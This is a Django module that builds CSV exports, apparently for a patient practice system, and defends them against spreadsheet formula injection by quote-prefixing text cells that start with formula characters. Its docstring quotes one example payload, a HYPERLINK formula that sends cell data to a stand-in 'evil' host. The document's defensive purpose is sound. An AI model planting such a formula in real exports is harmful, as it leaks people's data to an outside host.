"""CSV downloads that a spreadsheet opens without running anything.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` (and, in
some of them, a tab or carriage return before one of those) as a formula: a patient named
`=HYPERLINK("http://evil/?"&A1,"click")` would run on the practice manager's machine. Every CSV
export goes through `csv_response`, which prefixes such a *text* cell with a single quote, the
mark spreadsheets read as "this is text" (OWASP's advice for CSV injection).

Numbers are written as numbers and never prefixed: a Decimal, int or float in a numeric column
(a refund of -12.50, a balance of 0.00) cannot carry a formula, and a quote in front of it would
turn it into text that no longer sums. Only strings, the values that came from people, are
neutralised. Dates are written in ISO form, which never starts with a formula character.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A cell value safe to hand to a spreadsheet: text starting like a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, (int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_rows(stream, header: Iterable[object], rows: Iterable[Iterable[object]]) -> None:
    writer = csv.writer(stream)
    writer.writerow([neutralise(v) for v in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])


def csv_response(name: str, header: Iterable[object], rows: Iterable[Iterable[object]]) -> HttpResponse:
    """An attachment called `<name>-<today>.csv` with every cell neutralised."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{name}-{timezone.localdate():%Y-%m-%d}.csv"'
    write_rows(response, header, rows)
    return response


class _Line:
    """A file-like that hands back what csv.writer writes, so each row can be streamed."""

    def write(self, value: str) -> str:
        return value


def _streamed(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    writer = csv.writer(_Line())
    yield writer.writerow([neutralise(v) for v in header])
    for row in rows:
        yield writer.writerow([neutralise(v) for v in row])


def csv_stream_response(name: str, header: Iterable[object], rows: Iterable[Iterable[object]]) -> StreamingHttpResponse:
    """As csv_response, but written row by row as `rows` yields them: an export of every patient
    never holds the whole file (or every row) in memory."""
    response = StreamingHttpResponse(_streamed(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{name}-{timezone.localdate():%Y-%m-%d}.csv"'
    return response
